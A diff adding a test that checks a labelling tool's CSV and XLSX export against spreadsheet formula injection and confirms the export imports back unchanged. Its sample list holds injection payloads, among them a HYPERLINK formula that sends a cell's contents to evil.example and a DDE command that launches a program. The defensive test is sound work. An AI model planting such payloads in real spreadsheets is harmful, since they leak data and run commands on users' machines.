@@ -127,3 +127,44 @@ def test_every_subcommand_has_help():
         r = subprocess.run([sys.executable, "-m", "scripts.cli", sub, "--help"], cwd=ROOT, capture_output=True,
                            text=True, timeout=60)
         assert r.returncode == 0 and "--project" in r.stdout, (sub, r.stderr)
+
+
+HOSTILE = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+44 7700 900123 win",
+           "-5 pounds off", "@SUM(A1:A2)", "\tleading tab", "'=already quoted", "'Tis plain", "a normal text"]
+
+
+def test_export_cannot_run_code_and_imports_back_to_the_same_text(env, capsys):
+    """Formula injection: CSV cells starting with = + - @ tab CR get a leading apostrophe, XLSX cells are text,
+    never formulas; importing the export gives the original texts and labels back."""
+    import io
+    import zipfile
+
+    tmp, _ = env
+    src = pd.DataFrame({"id": [f"h{i}" for i in range(len(HOSTILE))], "text": HOSTILE,
+                        "label": ["=2*3", "-", "ham", "spam", "ham", "spam", "ham", "spam", "ham", "spam"]})
+    src.to_parquet(tmp / "hostile.parquet")
+    code, out, err = run(capsys, "import", str(tmp / "hostile.parquet"), "--project", "local/h", "--id-col", "id",
+                         "--label-col", "label", "--no-progress")
+    assert code == 0 and out["labelled"] == len(HOSTILE), err
+    run(capsys, "export", "--project", "local/h", "--out", str(tmp / "stored.parquet"), "--no-predictions")
+    stored = pd.read_parquet(tmp / "stored.parquet")  # import strips the texts' outer whitespace
+    assert list(stored.text) == [t.strip() for t in HOSTILE]
+    for suffix in ("csv", "xlsx"):
+        path = tmp / f"out.{suffix}"
+        code, out, err = run(capsys, "export", "--project", "local/h", "--out", str(path), "--no-predictions")
+        assert code == 0, err
+        if suffix == "csv":
+            raw = path.read_text()
+            assert "h0,'=1+1,'=2*3," in raw and "''=already quoted" in raw and "'+44 7700" in raw
+            assert ",=" not in raw and ",+" not in raw and ",-" not in raw and ",@" not in raw
+        else:
+            sheet = zipfile.ZipFile(io.BytesIO(path.read_bytes())).read("xl/worksheets/sheet1.xml").decode()
+            assert "<f>" not in sheet and "HYPERLINK" in sheet  # the text is there, as text
+        project = f"local/back{suffix}"
+        code, out, err = run(capsys, "import", str(path), "--project", project, "--id-col", "id",
+                             "--label-col", "label", "--no-progress")
+        assert code == 0 and out["labelled"] == len(HOSTILE), err
+        code, out, err = run(capsys, "export", "--project", project, "--out", str(tmp / f"back-{suffix}.parquet"),
+                             "--no-predictions")
+        back = pd.read_parquet(tmp / f"back-{suffix}.parquet")
+        assert list(back.text) == list(stored.text) and list(back.label) == list(src.label)
